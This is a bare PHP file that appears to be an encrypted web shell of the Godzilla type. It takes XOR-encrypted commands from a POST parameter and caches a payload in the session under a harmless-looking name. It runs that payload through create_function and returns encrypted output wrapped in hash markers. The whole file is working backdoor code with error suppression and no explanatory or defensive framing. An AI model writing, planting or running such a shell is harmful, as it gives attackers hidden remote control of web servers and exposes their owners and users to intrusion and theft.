<?php
@session_start();
@set_time_limit(0);
function x1($D,$K){for($i=0;$i<strlen($D);$i++){$D[$i]=$D[$i]^$K[$i+1&15];}return $D;}
$pw='go';$sk='cache_blob';$ky='2ea41505a646250d';
if(isset($_POST[$pw])){
  $d=x1(base64_decode($_POST[$pw]),$ky);
  if(isset($_SESSION[$sk])){$pl=x1($_SESSION[$sk],$ky);if(strpos($pl,"getBasicsInfo")===false){$pl=x1($pl,$ky);}
    $run=create_function('',$pl);$run();echo substr(md5($pw.$ky),0,16);echo base64_encode(x1(@run($d),$ky));echo substr(md5($pw.$ky),16);}
  else{if(strpos($d,"getBasicsInfo")!==false){$_SESSION[$sk]=x1($d,$ky);}}
}
